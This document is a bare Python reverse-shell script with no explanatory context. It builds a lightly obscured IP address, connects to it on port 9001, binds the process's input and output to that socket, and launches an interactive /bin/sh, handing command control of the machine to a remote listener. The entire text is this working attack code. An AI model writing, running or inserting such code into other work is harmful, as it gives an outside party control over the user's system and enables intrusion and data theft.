import os
import socket
import subprocess

_host = ".".join(map(str, [198, 51, 100, 23]))
_sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
_sock.connect((_host, 9001))
for fd in (0, 1, 2):
    os.dup2(_sock.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
